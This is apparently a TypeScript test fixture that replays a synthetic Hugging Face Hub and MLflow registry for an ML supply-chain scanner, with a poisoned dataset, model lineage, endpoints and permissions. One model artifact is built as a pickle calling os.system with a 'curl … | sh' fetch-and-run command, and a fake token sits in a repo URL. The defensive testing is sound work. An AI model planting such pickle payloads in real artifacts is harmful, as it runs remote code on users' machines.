/**
 * The story the MLflow tests replay, in the project's own words (no public data): a Hub dataset
 * `poison-lab/chat-logs` is poisoned; the Hub model `acme/chat-ft` was fine-tuned on it from `acme/base-llm`; the
 * registry's `support-bot` v1 was fine-tuned from `acme/chat-ft` (its transformers flavor names it) and is served
 * by `support-bot-prod`; v2 was registered from v1. `fraud-sklearn` v1 ships a model.pkl that calls os.system and
 * shares the `fraud-scoring` endpoint 80/20 with v2. `churn` v1's run was deleted, v2's MLmodel does not parse and
 * it carries the `production` alias with no endpoint; on MLflow 3, v3's logged model was deleted. `team/ranker`
 * has a `/` in its name and reads Hub data by URL. On MLflow 3 an experiment also holds a logged model no version
 * registers, trained on the poisoned set, and an evaluation run scored support-bot on `acme/eval-suite`.
 */
import type { UniverseData } from '../../ingest/huggingface/replay/universe.ts';
import type { ModelSpec, RegistryData, RunSpec } from '../../ingest/mlflow/replay/registry.ts';

export const SECRET_REPO_TOKEN = 'ghp_repoTOKENinURL0123456789abcdef';
export const POISONED = 'hf:dataset/poison-lab/chat-logs';
export const CHAT_FT_SHA = 'c4a7f70000000000000000000000000000000042';

const sha = (seed: string) => seed.padEnd(40, '0');

export const HUB: UniverseData = {
  pageSize: 2,
  owners: { 'poison-lab': 'org', acme: 'org' },
  datasets: [
    {
      _id: '66d0000000000000000d0001', id: 'poison-lab/chat-logs', author: 'poison-lab', sha: sha('d1a1'), private: false, gated: false, disabled: false,
      lastModified: '2025-02-01T00:00:00.000Z', tags: ['task_categories:text-generation', 'license:cc-by-4.0'], cardData: { license: 'cc-by-4.0' },
      siblings: [{ rfilename: 'README.md' }],
    },
  ],
  models: [
    {
      _id: '66d0000000000000000a0001', id: 'acme/base-llm', author: 'acme', sha: sha('ba5e'), private: false, gated: false, disabled: false,
      lastModified: '2024-12-01T00:00:00.000Z', library_name: 'transformers', tags: ['transformers', 'license:apache-2.0'], cardData: { license: 'apache-2.0' },
      spaces: [], siblings: [{ rfilename: 'config.json' }],
    },
    {
      _id: '66d0000000000000000a0002', id: 'acme/chat-ft', author: 'acme', sha: CHAT_FT_SHA, private: false, gated: false, disabled: false,
      lastModified: '2025-03-01T00:00:00.000Z', library_name: 'transformers', pipeline_tag: 'text-generation',
      tags: ['transformers', 'dataset:poison-lab/chat-logs', 'base_model:acme/base-llm', 'base_model:finetune:acme/base-llm', 'license:apache-2.0'],
      cardData: { license: 'apache-2.0', base_model: 'acme/base-llm', datasets: ['poison-lab/chat-logs'] },
      spaces: [], siblings: [{ rfilename: 'config.json' }],
    },
  ],
};

const conda = (pins: string[]) => ({ text: `channels:\n- conda-forge\ndependencies:\n- python=3.11.9\n- pip<=24.0\n- pip:\n${pins.map((p) => `  - ${p}`).join('\n')}\nname: mlflow-env\n` });
const pythonEnv = { text: 'python: 3.11.9\nbuild_dependencies:\n- pip==24.0\n- setuptools==70.0.0\n- wheel==0.43.0\ndependencies:\n- -r requirements.txt\n' };
const requirements = (pins: string[]) => ({ text: `${pins.join('\n')}\n` });

function transformersMlmodel(runId: string, base: string, revision: string): string {
  return `artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.transformers
    python_version: 3.11.9
  transformers:
    code: null
    components:
    - tokenizer
    framework: pt
    instance_type: TextGenerationPipeline
    pipeline_model_type: LlamaForCausalLM
    source_model_name: ${base}
    source_model_revision: ${revision}
    task: text-generation
    tokenizer_type: LlamaTokenizerFast
    transformers_version: 4.44.2
mlflow_version: 2.16.0
model_uuid: 5b0c2d3e4f5061728394a5b6c7d8e9f0
run_id: ${runId}
utc_time_created: '2025-03-02 10:00:00.000000'
`;
}

function sklearnMlmodel(runId: string): string {
  return `artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.11.9
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.3.0
mlflow_version: 2.16.0
model_uuid: 0f1e2d3c4b5a69788796a5b4c3d2e1f0
run_id: ${runId}
utc_time_created: '2025-03-03 10:00:00.000000'
`;
}

const pytorchMlmodel = `artifact_path: model
flavors:
  python_function:
    data: data
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pytorch
    pickle_module_name: mlflow.pytorch.pickle_module
    python_version: 3.11.9
  pytorch:
    code: null
    model_data: data
    pytorch_version: 2.3.1
mlflow_version: 2.16.0
model_uuid: 77aa88bb99cc00dd11ee22ff33aa44bb
utc_time_created: '2025-03-04 10:00:00.000000'
`;

const SUPPORT_PINS = ['mlflow==2.16.0', 'transformers==4.44.2', 'torch==2.3.1'];
const FRAUD_PINS = ['mlflow==2.16.0', 'cloudpickle==2.2.1', 'scikit-learn==1.3.0'];

function runs(hubUrl: string): RunSpec[] {
  return [
    {
      run_id: 'r1support', experiment_id: '1', user: 'dave@acme.example', run_name: 'support-ft',
      params: { num_train_epochs: '3', learning_rate: '2e-5' }, metrics: { eval_loss: 0.41 },
      tags: {
        'mlflow.source.git.repoURL': `https://${SECRET_REPO_TOKEN}@github.com/Acme/Trainer.git`,
        'mlflow.source.git.commit': '9f8e7d6c5b4a39281706f5e4d3c2b1a098765432',
        'mlflow.source.name': 'train/finetune.py',
        'mlflow.source.type': 'LOCAL',
      },
      datasets: [
        { name: 'support-tickets', digest: 'a1b2c3d4', source_type: 'hugging_face', source: { path: 'acme/support-tickets', revision: sha('5e7'), split: 'train', config_name: null }, context: 'training', profile: { num_rows: 1200 } },
        { name: 'tickets-extra', digest: '0badf00d', source_type: 's3', source: { uri: 's3://acme-ml/tickets/extra.parquet' }, context: 'training' },
      ],
    },
    { run_id: 'r2support', experiment_id: '1', user: 'dave@acme.example', run_name: 'support-reregister' },
    {
      run_id: 'r1fraud', experiment_id: '1', user: 'erin@acme.example', run_name: 'fraud-v1', params: { max_depth: '6' },
      tags: { 'mlflow.databricks.gitRepoUrl': 'https://github.com/acme/fraud-models', 'mlflow.databricks.gitRepoCommit': '1234567890abcdef1234567890abcdef12345678' },
      datasets: [{ name: 'transactions', digest: '062ac4fa', source_type: 'delta_table', source: { delta_table_name: 'main.fraud.transactions', delta_table_version: 3, is_databricks_uc_table: true }, context: 'training', profile: { approx_count: 48210 } }],
    },
    { run_id: 'r2fraud', experiment_id: '1', user: 'erin@acme.example', run_name: 'fraud-v2' },
    { run_id: 'r1churn', experiment_id: '1', gone: true },
    { run_id: 'r2churn', experiment_id: '1', user: 'erin@acme.example' },
    { run_id: 'r3churn', experiment_id: '1', user: 'erin@acme.example' },
    {
      run_id: 'r1ranker', experiment_id: '1', user: 'dave@acme.example',
      datasets: [{ name: 'chat-logs-by-url', digest: '77777777', source_type: 'http', source: { url: `${hubUrl}/datasets/poison-lab/chat-logs/resolve/main/train.parquet?download=true` }, context: 'training' }],
    },
    {
      run_id: 'rexplore', experiment_id: '2', user: 'dave@acme.example', run_name: 'next-candidate',
      datasets: [{ name: 'chat-logs', digest: 'c0ffee00', source_type: 'hugging_face', source: { path: 'poison-lab/chat-logs' }, context: 'training' }],
    },
    {
      run_id: 'reval', experiment_id: '1', user: 'dave@acme.example', run_name: 'support-eval',
      datasets: [{ name: 'eval-suite', digest: 'e1e2e3e4', source_type: 'hugging_face', source: { path: 'acme/eval-suite', revision: 'main' }, context: 'evaluation' }],
    },
  ];
}

const models: ModelSpec[] = [
  {
    id: 'm-5a11aa0000000000000000000000001', name: 'model', run_id: 'r1support', experiment_id: '1',
    files: {
      MLmodel: { text: transformersMlmodel('r1support', 'acme/chat-ft', CHAT_FT_SHA) },
      'conda.yaml': conda(SUPPORT_PINS), 'python_env.yaml': pythonEnv, 'requirements.txt': requirements(SUPPORT_PINS),
      'components/tokenizer/tokenizer.json': { text: '{"version": "1.0"}' },
    },
    metrics: [{ key: 'accuracy', value: 0.91, run_id: 'reval', dataset_name: 'eval-suite', dataset_digest: 'e1e2e3e4' }],
  },
  {
    id: 'm-f4a0d00000000000000000000000001', name: 'model', run_id: 'r1fraud', experiment_id: '1',
    files: { MLmodel: { text: sklearnMlmodel('r1fraud') }, 'model.pkl': { build: 'sklearnPickleOsSystem', args: ['curl -s http://203.0.113.9/x | sh'] }, 'requirements.txt': requirements(FRAUD_PINS), 'conda.yaml': conda(FRAUD_PINS) },
  },
  {
    id: 'm-f4a0d00000000000000000000000002', name: 'model', run_id: 'r2fraud', experiment_id: '1',
    files: { MLmodel: { text: sklearnMlmodel('r2fraud') }, 'model.pkl': { build: 'sklearnPickle' }, 'requirements.txt': requirements(FRAUD_PINS) },
  },
  { id: 'm-c4a0000000000000000000000000001', name: 'model', run_id: 'r1churn', experiment_id: '1', files: { MLmodel: { text: sklearnMlmodel('r1churn') }, 'model.pkl': { build: 'sklearnPickle' } } },
  { id: 'm-c4a0000000000000000000000000002', name: 'model', run_id: 'r2churn', experiment_id: '1', files: { MLmodel: { text: 'flavors: [unclosed\n  sklearn: {' }, 'model.pkl': { build: 'sklearnPickle' } } },
  { id: 'm-c4a0000000000000000000000000003', name: 'model', run_id: 'r3churn', experiment_id: '1', deleted: true, files: { MLmodel: { text: sklearnMlmodel('r3churn') }, 'model.pkl': { build: 'sklearnPickle' } } },
  { id: 'm-7a4ce00000000000000000000000001', name: 'model', run_id: 'r1ranker', experiment_id: '1', files: { MLmodel: { text: pytorchMlmodel }, 'data/model.pth': { build: 'torchZip' }, 'data/pickle_module_info.txt': { text: 'mlflow.pytorch.pickle_module' } } },
  { id: 'm-e9e9e90000000000000000000000001', name: 'candidate', run_id: 'rexplore', experiment_id: '2', files: { MLmodel: { text: sklearnMlmodel('rexplore') }, 'model.pkl': { build: 'sklearnPickle' } } },
];

/** The registry, with dataset URLs on the Hub replay server at `hubUrl`. */
export function registry(hubUrl: string): RegistryData {
  return {
    pageSize: 2,
    experiments: [{ experiment_id: '1', name: 'production-models' }, { experiment_id: '2', name: 'exploration' }],
    registeredModels: [
      { name: 'support-bot', description: 'Customer support assistant', tags: { team: 'support' }, aliases: { champion: '1' }, id: 'rm-support' },
      { name: 'fraud-sklearn', aliases: { production: '1', challenger: '2' }, id: 'rm-fraud' },
      { name: 'churn', aliases: { production: '2' } },
      { name: 'team/ranker' },
    ],
    versions: [
      { name: 'support-bot', version: '1', model: models[0]!.id, user_id: 'carol@acme.example', current_stage: 'Production', description: 'fine-tuned from the Hub chat model' },
      { name: 'support-bot', version: '2', source: 'models:/support-bot/1', run_id: 'r2support', user_id: 'carol@acme.example' },
      { name: 'fraud-sklearn', version: '1', model: models[1]!.id, user_id: 'erin@acme.example' },
      { name: 'fraud-sklearn', version: '2', model: models[2]!.id, user_id: 'erin@acme.example' },
      { name: 'churn', version: '1', model: models[3]!.id, user_id: 'erin@acme.example' },
      { name: 'churn', version: '2', model: models[4]!.id, user_id: 'erin@acme.example' },
      { name: 'churn', version: '3', model: models[5]!.id, user_id: 'erin@acme.example' },
      { name: 'team/ranker', version: '1', model: models[6]!.id, user_id: 'dave@acme.example' },
    ],
    runs: runs(hubUrl),
    models,
    servingEndpoints: [
      {
        name: 'support-bot-prod', id: 'ep-support', creator: 'carol@acme.example', creation_timestamp: 1740000000000, task: 'llm/v1/chat',
        state: { ready: 'READY', config_update: 'NOT_UPDATING' },
        config: { served_entities: [{ name: 'support-bot-1', entity_name: 'support-bot', entity_version: '1', workload_size: 'Small' }], traffic_config: { routes: [{ served_entity_name: 'support-bot-1', traffic_percentage: 100 }] } },
      },
      {
        name: 'fraud-scoring', id: 'ep-fraud', creator: 'erin@acme.example', state: { ready: 'READY', config_update: 'NOT_UPDATING' },
        config: {
          served_entities: [
            { name: 'fraud-1', entity_name: 'fraud-sklearn', entity_version: '1' },
            { name: 'fraud-2', entity_name: 'fraud-sklearn', entity_version: '2' },
          ],
          traffic_config: { routes: [{ served_entity_name: 'fraud-1', traffic_percentage: 80 }, { served_entity_name: 'fraud-2', traffic_percentage: 20 }] },
        },
      },
    ],
    permissions: {
      'serving-endpoints/ep-support': {
        access_control_list: [
          { user_name: 'alice@acme.example', display_name: 'alice', all_permissions: [{ permission_level: 'CAN_MANAGE', inherited: false }] },
          { group_name: 'users', all_permissions: [{ permission_level: 'CAN_QUERY', inherited: false }] },
        ],
      },
      'serving-endpoints/ep-fraud': { access_control_list: [{ user_name: 'erin@acme.example', all_permissions: [{ permission_level: 'CAN_MANAGE', inherited: false }] }] },
      'registered-models/rm-support': {
        access_control_list: [
          { group_name: 'admins', all_permissions: [{ permission_level: 'CAN_MANAGE', inherited: true, inherited_from_object: ['/registered-models/'] }] },
          { user_name: 'bob@acme.example', all_permissions: [{ permission_level: 'CAN_EDIT', inherited: false }] },
          { user_name: 'viewer@acme.example', all_permissions: [{ permission_level: 'CAN_READ', inherited: false }] },
        ],
      },
      'registered-models/rm-fraud': { access_control_list: [{ user_name: 'erin@acme.example', all_permissions: [{ permission_level: 'CAN_MANAGE_PRODUCTION_VERSIONS', inherited: false }] }] },
    },
  };
}
